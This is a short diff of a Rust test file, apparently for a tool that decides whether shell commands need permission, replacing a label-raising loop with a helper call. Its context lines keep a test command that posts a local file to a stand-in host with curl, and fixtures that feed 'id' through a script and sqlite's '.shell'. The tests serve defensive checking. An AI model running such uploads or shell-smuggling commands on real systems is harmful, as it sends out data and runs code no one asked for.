@@ -81,9 +81,7 @@ fn more_than_once_is_not_offered_for_what_no_text_says() {
     for name in ["a.sh", "data"] {
         std::fs::write(site.work().join(name), "x\n").unwrap();
     }
-    for label in ["corruption", "secret"] {
-        site.raise("default", label);
-    }
+    site.raise_both("default");
     let shown = outcome(&site, "curl -s -d @data https://h.example/").unwrap();
     assert!(shown.contains(" session") && shown.contains(" grant 30"), "the control: {shown}");
     for command in [
@@ -129,9 +127,7 @@ fn no_rule_covers_code_that_is_fed() {
         );
         let site = Site::new(&rule);
         let _host = site.serve();
-        for label in ["corruption", "secret"] {
-            site.raise("default", label);
-        }
+        site.raise_both("default");
         for other in others {
             std::fs::write(site.work().join("evil.sh"), "id\n").unwrap();
             std::fs::write(site.work().join("evil.sql"), ".shell id\n").unwrap();
